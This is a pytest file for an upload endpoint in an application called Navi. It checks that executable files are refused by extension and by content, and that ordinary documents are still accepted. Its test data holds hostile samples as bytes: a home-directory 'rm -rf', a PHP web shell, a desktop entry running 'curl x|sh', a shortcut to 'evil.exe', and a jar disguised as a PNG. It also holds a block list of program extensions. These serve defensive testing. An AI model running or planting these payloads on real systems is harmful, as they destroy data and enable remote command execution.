"""Uploads: programs refused by name and by content, whatever the name (issue 14, item 9).

Every case goes through a real upload to a live Navi (multipart over TCP), and checks that nothing
of a refused file is left in the session's folder.
"""

from __future__ import annotations

import codecs
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from navi.config import Settings
from navi.testing.fake_server import FakeModelServer
from tests.server_helpers import LiveNavi, live_navi


@pytest.fixture(scope="module")
def navi(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveNavi]:
    """One server for the module (uploads do not talk to a model), isolated like every test's:
    its own folder, no Navi variable from the shell."""
    tmp = tmp_path_factory.mktemp("uploads")
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(tmp)
        for name in Settings.model_fields:
            mp.delenv(name.upper(), raising=False)
        with FakeModelServer() as fake, live_navi(tmp, fake, session_files_max_size_mb=2) as server:
            yield server


def upload(navi: LiveNavi, name: str, data: bytes) -> tuple[httpx.Response, Path]:
    sid = navi.new_session()
    with navi.client() as http:
        resp = http.post(f"/sessions/{sid}/files", files={"file": (name, data, "application/octet-stream")})
    return resp, Path(navi.settings.session_files_dir) / sid


def assert_refused(resp: httpx.Response, folder: Path, reason: str) -> None:
    assert resp.status_code == 415, resp.text
    assert resp.json()["code"] == "upload_rejected" and reason in resp.json()["detail"], resp.text
    assert not folder.exists() or list(folder.iterdir()) == []  # no file, no temporary part


def zipped(*members: str, prefix: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member in members:
            archive.writestr(member, b"x")
    return prefix + out.getvalue()


NEW_EXTENSIONS = [
    ".pyz", ".pyw", ".mjs", ".cjs", ".lua", ".desktop", ".jar", ".war", ".ear", ".apk", ".msi", ".deb",
    ".rpm", ".appimage", ".run", ".ps1", ".psm1", ".vbs", ".wsf", ".hta", ".scr", ".com", ".cmd",
    ".bat", ".command", ".tool", ".pl", ".rb", ".php", ".phar", ".sh", ".bash", ".zsh", ".fish",
    ".elf", ".url", ".lnk", ".class", ".msix", ".ipa", ".tcsh",
]  # fmt: skip


@pytest.mark.parametrize("suffix", NEW_EXTENSIONS)
def test_program_extensions_are_refused(navi: LiveNavi, suffix: str) -> None:
    resp, folder = upload(navi, f"harmless{suffix.upper() if suffix == '.jar' else suffix}", b"just text")
    assert_refused(resp, folder, f"files of type {suffix}")


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
CONTENT = [
    ("notes.txt", codecs.BOM_UTF8 + b"#!/bin/sh\nrm -rf ~\n", "interpreter line"),
    ("notes.txt", b"  \r\n\t\n#!/usr/bin/env python3\nimport os\n", "interpreter line"),
    ("notes.txt", codecs.BOM_UTF16_LE + "#!/bin/sh\necho hi\n".encode("utf-16-le"), "interpreter line"),
    ("notes.txt", codecs.BOM_UTF32_BE + "#!/bin/sh\n".encode("utf-32-be"), "interpreter line"),
    ("page.html", b"<?php system($_GET['c']); ?>", "PHP script"),
    ("page.txt", b"\n\n<?PHP echo 1;", "PHP script"),
    ("readme.txt", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n", "desktop entry"),
    ("readme.txt", b"# generated\n\n[Desktop Entry]\nExec=evil\n", "desktop entry"),
    ("link.txt", b"[InternetShortcut]\r\nURL=file:///C:/evil.exe\r\n", "internet shortcut"),
    ("doc.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64, "Windows shortcut"),
    ("data.dat", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 32, "Java class"),
    ("data.dat", b"dex\n035\x00" + b"\x00" * 64, "Dalvik"),
    ("data.dat", b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n", "Debian"),
    ("data.dat", b"\xed\xab\xee\xdb\x03\x00" + b"\x00" * 64, "RPM"),
    ("report.zip", zipped("META-INF/MANIFEST.MF", "com/x/Main.class"), "Java archive"),
    ("photos.zip", zipped("AndroidManifest.xml", "classes.dex"), "Android package"),
    ("bundle.zip", zipped("__main__.py", "lib/helpers.py"), "Python zip application"),
    ("photo.png", zipped("META-INF/MANIFEST.MF", prefix=PNG), "Java archive"),  # a jar behind an image
    ("big.txt", b"#!/bin/bash\n" + b"echo padding\n" * 2000, "interpreter line"),  # refused while streaming
]


@pytest.mark.parametrize(("name", "data", "reason"), CONTENT, ids=[f"{c[0]}-{c[2]}" for c in CONTENT])
def test_programs_are_refused_by_content_whatever_the_name(
    navi: LiveNavi, name: str, data: bytes, reason: str
) -> None:
    resp, folder = upload(navi, name, data)
    assert_refused(resp, folder, reason)


ACCEPTED = [
    ("docs.zip", zipped("readme.txt", "chapter1/notes.md")),
    ("letter.odt", zipped("mimetype", "META-INF/manifest.xml", "content.xml")),  # ODF's manifest
    ("book.epub", zipped("mimetype", "META-INF/container.xml")),
    ("notes.md", b"# Title\n\nA line that mentions #!/bin/sh and <?php in the middle.\n"),
    ("image.png", PNG),
    ("config.ini", b"[Settings]\nname=desktop entry\n"),
    ("data.csv", b"a,b\n1,2\n"),
]


@pytest.mark.parametrize(("name", "data"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_ordinary_files_are_still_accepted(navi: LiveNavi, name: str, data: bytes) -> None:
    resp, folder = upload(navi, name, data)
    assert resp.status_code == 201, resp.text
    assert (folder / name).read_bytes() == data
